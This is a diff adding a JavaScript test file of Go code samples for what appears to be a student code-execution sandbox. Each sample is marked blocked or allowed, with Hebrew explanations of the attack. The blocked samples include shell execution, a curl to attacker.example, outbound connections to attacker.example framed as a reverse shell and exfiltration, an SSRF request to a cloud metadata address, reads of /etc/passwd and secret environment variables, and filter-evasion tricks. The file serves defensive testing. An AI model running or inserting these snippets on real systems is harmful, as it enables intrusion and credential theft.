@@ -0,0 +1,829 @@
+/**
+ * Go Security Attack Vectors
+ *
+ * A Go program reaches the host through a handful of standard packages:
+ * os/exec and os.StartProcess for processes, syscall and cgo for the
+ * kernel and native code, net for the network, and the file and
+ * environment functions of os. Go also lets an import take any local
+ * name - including "." - so the policy matches import PATHS, which
+ * cannot be renamed, rather than the identifiers a file happens to use.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const goTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: exec.Command shell',
+    code: `package main
+
+import (
+	"fmt"
+	"os/exec"
+)
+
+func main() {
+	out, _ := exec.Command("/bin/sh", "-c", "id").Output()
+	fmt.Println(string(out))
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הרצת פקודות Shell
+
+      איך תוקפים משתמשים בזה:
+      החבילה os/exec היא הדרך של תוכנית גו להפעיל תוכניות
+      אחרות. כשהתוכנית היא ‎/bin/sh‎, כל פקודת shell רצה עם
+      ההרשאות של השירות.
+
+      השפעה בעולם האמיתי:
+      - Reverse shells ותנועה רוחבית ברשת
+      - קריאת סודות כמו מפתחות SSH וטוקנים
+      - התקנת כורים או דלתות אחוריות בשרת
+    `,
+  },
+  {
+    name: 'Go: exec imported under another name',
+    code: `package main
+
+import run "os/exec"
+
+func main() {
+	run.Command("curl", "http://attacker.example/x.sh").Run()
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: ייבוא בשם אחר
+
+      איך תוקפים משתמשים בזה:
+      גו מאפשר לתת לכל ייבוא שם מקומי כלשהו. מסנן שמחפש
+      ‎"exec.Command"‎ מפספס את ‎"run.Command"‎ - ולכן המדיניות
+      בודקת את נתיב הייבוא עצמו, שאי אפשר לשנות את שמו.
+    `,
+  },
+  {
+    name: 'Go: os.StartProcess',
+    code: `package main
+
+import "os"
+
+func main() {
+	attr := &os.ProcAttr{Files: []*os.File{os.Stdin, os.Stdout, os.Stderr}}
+	os.StartProcess("/bin/sh", []string{"sh", "-c", "whoami"}, attr)
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הפעלת תהליך ברמה נמוכה
+
+      איך תוקפים משתמשים בזה:
+      os.StartProcess מפעיל תוכנית בלי לייבא את os/exec בכלל.
+      תוקף שיודע שהדלת הראשונה נשמרת פשוט משתמש בשנייה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // RAW SYSTEM CALLS AND NATIVE CODE
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: syscall.Exec',
+    code: `package main
+
+import "syscall"
+
+func main() {
+	syscall.Exec("/bin/sh", []string{"sh", "-c", "id"}, nil)
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: קריאות מערכת גולמיות
+
+      איך תוקפים משתמשים בזה:
+      החבילה syscall מדברת ישירות עם הקרנל. Exec מחליף את
+      התוכנית שרצה ב-shell, ואותה חבילה יכולה לפתוח sockets
+      וקבצים מתחת לכל ה-API של גו.
+    `,
+  },
+  {
+    name: 'Go: golang.org/x/sys/unix',
+    code: `package main
+
+import "golang.org/x/sys/unix"
+
+func main() {
+	unix.Kill(1, unix.SIGKILL)
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: חבילת קריאות מערכת מורחבת
+
+      איך תוקפים משתמשים בזה:
+      golang.org/x/sys היא היורשת המתוחזקת של syscall, עם עוד
+      יותר מהקרנל חשוף. היא לא חלק מהספרייה הסטנדרטית, כך
+      שממילא אי אפשר להוריד אותה כאן - אבל המדיניות חוסמת
+      אותה בשמה כדי שהסיבה תהיה ברורה.
+    `,
+  },
+  {
+    name: 'Go: cgo calling C',
+    code: `package main
+
+// #include <stdlib.h>
+import "C"
+
+func main() {
+	C.system(C.CString("id"))
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: קריאה ל-C דרך cgo
+
+      איך תוקפים משתמשים בזה:
+      ‎import "C"‎ מאפשר לקובץ גו לקרוא לכל פונקציה של C -
+      system()‎, זיכרון גולמי, כל מה ש-libc מציעה. cgo כבוי
+      בבנייה כאן, והייבוא נחסם עוד לפני שמגיעים לשם.
+    `,
+  },
+  {
+    name: 'Go: #cgo linker flags',
+    code: `package main
+
+// #cgo LDFLAGS: -Wl,--wrap=main
+import "fmt"
+
+func main() {
+	fmt.Println("hi")
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: דגלי בנייה בתוך הערה
+
+      איך תוקפים משתמשים בזה:
+      הערת ‎#cgo‎ מעבירה דגלים ישירות למהדר ולמקשר של C -
+      דגלים שבעבר הריצו תוספים שרירותיים דרך חולשות בכלי
+      הבנייה. היא נחסמת גם בלי ‎import "C"‎.
+    `,
+  },
+  {
+    name: 'Go: go:linkname into the runtime',
+    code: `package main
+
+import _ "unsafe"
+
+//go:linkname nanotime runtime.nanotime
+func nanotime() int64
+
+func main() {
+	println(nanotime())
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: גישה לפונקציות פרטיות
+
+      איך תוקפים משתמשים בזה:
+      ‎//go:linkname‎ קושר שם מקומי לפונקציה פרטית בחבילה
+      אחרת, ועוקף כל כלל לגבי מה שחבילה רשאית לחשוף. כך
+      קוד מגיע לחלקים פנימיים של סביבת הריצה שמעולם לא
+      נועדו לקריאה.
+    `,
+  },
+  {
+    name: 'Go: plugin.Open',
+    code: `package main
+
+import "plugin"
+
+func main() {
+	p, _ := plugin.Open("/tmp/evil.so")
+	p.Lookup("Run")
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 התקפה: טעינת ספרייה משותפת
+
+      איך תוקפים משתמשים בזה:
+      החבילה plugin טוענת קובץ ‎.so‎ מהודר לתוך התוכנית שרצה.
+      כל מה שהספרייה עושה, היא עושה עם ההרשאות של התוכנית.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // UNSAFE MEMORY
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: unsafe.Pointer memory write',
+    code: `package main
+
+import (
+	"fmt"
+	"unsafe"
+)
+
+func main() {
+	s := "read-only"
+	p := (*[9]byte)(unsafe.Pointer(unsafe.StringData(s)))
+	p[0] = 'R'
+	fmt.Println(s)
+}`,
+    expectBlocked: true,
+    category: 'unsafe_memory',
+    explanation: `
+      🎯 התקפה: גישה לא בטוחה לזיכרון
+
+      איך תוקפים משתמשים בזה:
+      unsafe.Pointer הופך כל כתובת לכל טיפוס. זה מסיר את
+      בדיקות הגבולות ואת כללי הטיפוסים ששומרים על הזיכרון
+      בגו בטוח, כך שתוכנית יכולה לקרוא או לדרוס זיכרון שמעולם
+      לא קיבלה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: net.Dial reverse shell',
+    code: `package main
+
+import "net"
+
+func main() {
+	conn, _ := net.Dial("tcp", "attacker.example:4444")
+	conn.Write([]byte("connected"))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: חיבור יוצא
+
+      איך תוקפים משתמשים בזה:
+      net.Dial פותח חיבור TCP לכל שרת. יחד עם shell זה reverse
+      shell; לבד הוא שולח החוצה כל מה שהתוכנית יכולה לקרוא.
+    `,
+  },
+  {
+    name: 'Go: net/http GET',
+    code: `package main
+
+import (
+	"fmt"
+	"net/http"
+)
+
+func main() {
+	resp, _ := http.Get("http://169.254.169.254/latest/meta-data/")
+	fmt.Println(resp.Status)
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: זיוף בקשות מצד השרת (SSRF)
+
+      איך תוקפים משתמשים בזה:
+      בקשת HTTP מתוך שרת בענן יכולה להגיע לשירות המטא-דאטה
+      בכתובת 169.254.169.254 ולקרוא את פרטי ההזדהות של
+      המכונה. עם net/http זו שורה אחת.
+    `,
+  },
+  {
+    name: 'Go: net/http server',
+    code: `package main
+
+import "net/http"
+
+func main() {
+	http.ListenAndServe(":8080", http.FileServer(http.Dir("/")))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: פתיחת פורט להאזנה
+
+      איך תוקפים משתמשים בזה:
+      שרת קבצים על ‎/‎ מפרסם את כל מערכת הקבצים לכל מי שמגיע
+      לפורט - דלת אחורית שנראית כמו אפליקציית רשת רגילה.
+    `,
+  },
+  {
+    name: 'Go: crypto/tls dial',
+    code: `package main
+
+import "crypto/tls"
+
+func main() {
+	conn, _ := tls.Dial("tcp", "attacker.example:443", &tls.Config{})
+	conn.Write([]byte("exfil"))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 התקפה: הוצאת מידע מוצפנת
+
+      איך תוקפים משתמשים בזה:
+      crypto/tls פותח חיבורים משלו, ולכן זו דרך שנייה לרשת
+      שאף פעם לא מזכירה את "net". תעבורה מוצפנת גם מסתירה
+      את מה שנשלח.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: os.ReadFile /etc/passwd',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	data, _ := os.ReadFile("/etc/passwd")
+	fmt.Println(string(data))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: קריאת קבצי מערכת
+
+      איך תוקפים משתמשים בזה:
+      קריאת ‎/etc/passwd‎ מציגה את החשבונות בשרת. אותה קריאה
+      קוראת קובצי הגדרות, מפתחות ועבודות של תלמידים אחרים.
+    `,
+  },
+  {
+    name: 'Go: os.WriteFile',
+    code: `package main
+
+import "os"
+
+func main() {
+	os.WriteFile("/tmp/.hidden", []byte("payload"), 0755)
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: השתלת קובץ
+
+      איך תוקפים משתמשים בזה:
+      כתיבת קובץ בר-הרצה היא הצעד הראשון ברוב שיטות
+      ההשתרשות: להשתיל מטען עכשיו ולהריץ אותו אחר כך
+      ממקום אחר.
+    `,
+  },
+  {
+    name: 'Go: os.Open held as a function value',
+    code: `package main
+
+import "os"
+
+func main() {
+	open := os.Open
+	f, _ := open("/proc/self/environ")
+	f.Close()
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: קריאה דרך משתנה
+
+      איך תוקפים משתמשים בזה:
+      מסנן שמחפש ‎"os.Open("‎ מפספס פונקציה ששמורה במשתנה
+      ונקראת אחר כך. המדיניות מזהה את השם בלי צורך בסוגריים.
+    `,
+  },
+  {
+    name: 'Go: os imported under another name',
+    code: `package main
+
+import sys "os"
+
+func main() {
+	sys.Remove("main.go")
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: שינוי שם לחבילה os
+
+      איך תוקפים משתמשים בזה:
+      כל כללי הקבצים כתובים בצורה ‎"os.Something"‎. ייבוא של os
+      בשם "sys" היה עובר ליד כולם, ולכן ייבוא של os בשם אחר או
+      עם נקודה נחסם בפני עצמו.
+    `,
+  },
+  {
+    name: 'Go: dot import of os',
+    code: `package main
+
+import (
+	"fmt"
+	. "os"
+)
+
+func main() {
+	data, _ := ReadFile("/etc/hostname")
+	fmt.Println(string(data))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: ייבוא עם נקודה
+
+      איך תוקפים משתמשים בזה:
+      ייבוא עם נקודה מכניס לקובץ את כל השמות מ-os, כך שאפשר
+      לקרוא ל-ReadFile בלי שום שם חבילה לפניו.
+    `,
+  },
+  {
+    name: 'Go: io/ioutil',
+    code: `package main
+
+import (
+	"fmt"
+	"io/ioutil"
+)
+
+func main() {
+	files, _ := ioutil.ReadDir("/home")
+	fmt.Println(len(files))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: ה-API הישן לקבצים
+
+      איך תוקפים משתמשים בזה:
+      io/ioutil הוא הבית הישן של ReadFile, ‏WriteFile ו-ReadDir.
+      חסימה של הגרסאות ב-os בלבד הייתה משאירה אותן פתוחות.
+    `,
+  },
+  {
+    name: 'Go: filepath.Walk',
+    code: `package main
+
+import (
+	"fmt"
+	"io/fs"
+	"path/filepath"
+)
+
+func main() {
+	filepath.Walk("/", func(p string, info fs.FileInfo, err error) error {
+		fmt.Println(p)
+		return nil
+	})
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 התקפה: מיפוי מערכת הקבצים
+
+      איך תוקפים משתמשים בזה:
+      מעבר על העץ מ-‎/‎ מציג כל קובץ שהתוכנית יכולה לראות -
+      שלב הסיור לפני שמחליטים מה לגנוב.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT AND IDENTITY
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: os.Getenv secrets',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	fmt.Println(os.Getenv("AWS_SECRET_ACCESS_KEY"))
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: קריאת סודות מהסביבה
+
+      איך תוקפים משתמשים בזה:
+      שירותים שומרים מפתחות API וסיסמאות במשתני סביבה.
+      קריאה אחת ל-Getenv מדפיסה אותם.
+    `,
+  },
+  {
+    name: 'Go: os.Environ dump',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	for _, kv := range os.Environ() {
+		fmt.Println(kv)
+	}
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: הדפסת כל הסביבה
+
+      איך תוקפים משתמשים בזה:
+      Environ מציג את כל המשתנים בבת אחת, כך שהתוקף לא צריך
+      אפילו לנחש את השמות.
+    `,
+  },
+  {
+    name: 'Go: os.Hostname',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	name, _ := os.Hostname()
+	fmt.Println(name)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: סיור על השרת
+
+      איך תוקפים משתמשים בזה:
+      שם השרת מציין לעתים קרובות את האשכול, האזור או הלקוח -
+      מידע שימושי לבחירת המטרה הבאה.
+    `,
+  },
+  {
+    name: 'Go: os/user',
+    code: `package main
+
+import (
+	"fmt"
+	"os/user"
+)
+
+func main() {
+	u, _ := user.Current()
+	fmt.Println(u.Username, u.HomeDir)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: בירור זהות
+
+      איך תוקפים משתמשים בזה:
+      os/user חושף תחת איזה חשבון התוכנית רצה ואיפה תיקיית
+      הבית שלו - שתי העובדות שתוקף צריך לפני שהוא מחפש
+      מפתחות.
+    `,
+  },
+  {
+    name: 'Go: runtime/debug limits',
+    code: `package main
+
+import "runtime/debug"
+
+func main() {
+	debug.SetMaxStack(1 << 40)
+	debug.SetGCPercent(-1)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: ביטול מגבלות סביבת הריצה
+
+      איך תוקפים משתמשים בזה:
+      runtime/debug יכול להגדיל את מגבלת המחסנית ולכבות את
+      איסוף הזבל, וכך לבטל את תקרת הזיכרון שהשירות קובע כדי
+      שתוכנית אחת תרעיב את האחרות.
+    `,
+  },
+  {
+    name: 'Go: signal.Ignore',
+    code: `package main
+
+import (
+	"os/signal"
+	"syscall"
+	"time"
+)
+
+func main() {
+	signal.Ignore(syscall.SIGTERM)
+	time.Sleep(time.Hour)
+}`,
+    expectBlocked: true,
+    category: 'signal_handling',
+    explanation: `
+      🎯 התקפה: התעלמות מאות העצירה
+
+      איך תוקפים משתמשים בזה:
+      תוכנית שמתעלמת מ-SIGTERM מנסה לשרוד את כפתור העצירה.
+      מגבלת הזמן עדיין מסיימת אותה עם SIGKILL, אבל הניסיון
+      נחסם מראש.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENCODING BYPASS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: exec path in a raw string',
+    code: `package main
+
+import (
+	"fmt"
+	exe \`os/exec\`
+)
+
+func main() {
+	fmt.Println(exe.Command("id"))
+}`,
+    expectBlocked: true,
+    category: 'encoding_bypass',
+    explanation: `
+      🎯 התקפה: נתיב ייבוא במחרוזת גולמית
+
+      איך תוקפים משתמשים בזה:
+      גו מקבל נתיב ייבוא שנכתב בגרשיים הפוכים וגם בגרשיים
+      כפולים. מסנן שמכיר רק סוג אחד של גרשיים נעקף בעזרת
+      השני.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: Safe print',
+    code: `package main
+
+import "fmt"
+
+func main() {
+	fmt.Println("Hello, World!")
+}`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: פלט בסיסי
+
+      fmt.Println כותב לקונסולה ולא יותר. תוכניות רגילות
+      חייבות להמשיך לעבוד.
+    `,
+  },
+  {
+    name: 'Go: Safe reading input',
+    code: `package main
+
+import (
+	"bufio"
+	"fmt"
+	"os"
+)
+
+func main() {
+	scanner := bufio.NewScanner(os.Stdin)
+	for scanner.Scan() {
+		fmt.Println("got:", scanner.Text())
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: קריאה מהקונסולה
+
+      os.Stdin הוא הדרך של תוכנית גו לקרוא את מה שהתלמיד
+      מקליד, ולכן ייבוא רגיל של os חייב להישאר מותר - רק
+      הפונקציות שלו לקבצים, לתהליכים ולסביבה נחסמות.
+    `,
+  },
+  {
+    name: 'Go: Safe strings and strconv',
+    code: `package main
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+func main() {
+	n, err := strconv.Atoi("42")
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	fmt.Println(strings.Repeat("*", n%5), n*2)
+}`,
+    expectBlocked: false,
+    expectedOutput: '** 84',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: טקסט ומספרים
+
+      חבילות הטקסט וההמרה הן חישוב טהור.
+    `,
+  },
+  {
+    name: 'Go: Safe goroutines and channels',
+    code: `package main
+
+import (
+	"fmt"
+	"sync"
+)
+
+func main() {
+	var wg sync.WaitGroup
+	results := make(chan int, 3)
+	for i := 1; i <= 3; i++ {
+		wg.Add(1)
+		go func(n int) {
+			defer wg.Done()
+			results <- n * n
+		}(i)
+	}
+	wg.Wait()
+	close(results)
+	for r := range results {
+		fmt.Println(r)
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: מקביליות
+
+      goroutines וערוצים הם הלב של גו ולא נוגעים בשרת.
+    `,
+  },
+  {
+    name: 'Go: Safe URL parsing',
+    code: `package main
+
+import (
+	"fmt"
+	"net/url"
+)
+
+func main() {
+	u, _ := url.Parse("https://example.com/path?q=go")
+	fmt.Println(u.Host, u.Query().Get("q"))
+}`,
+    expectBlocked: false,
+    expectedOutput: 'example.com go',
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: פענוח כתובת URL
+
+      net/url רק מפרק מחרוזת לחלקים - הוא אף פעם לא פותח
+      חיבור - ולכן זו חבילת net היחידה שנשארת מותרת.
+    `,
+  },
+  {
+    name: 'Go: Safe errors and os.Exit',
+    code: `package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+)
+
+func divide(a, b int) (int, error) {
+	if b == 0 {
+		return 0, errors.New("division by zero")
+	}
+	return a / b, nil
+}
+
+func main() {
+	if _, err := divide(1, 0); err != nil {
+		fmt.Println("error:", err)
+		os.Exit(1)
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ בטוח: שגיאות וקודי יציאה
+
+      החזרת שגיאות וסיום עם ‎os.Exit(1)‎ הם הדרך של תוכניות גו
+      לדווח על כישלון; אף אחד מהם לא יוצא מגבולות התוכנית.
+    `,
+  },
+];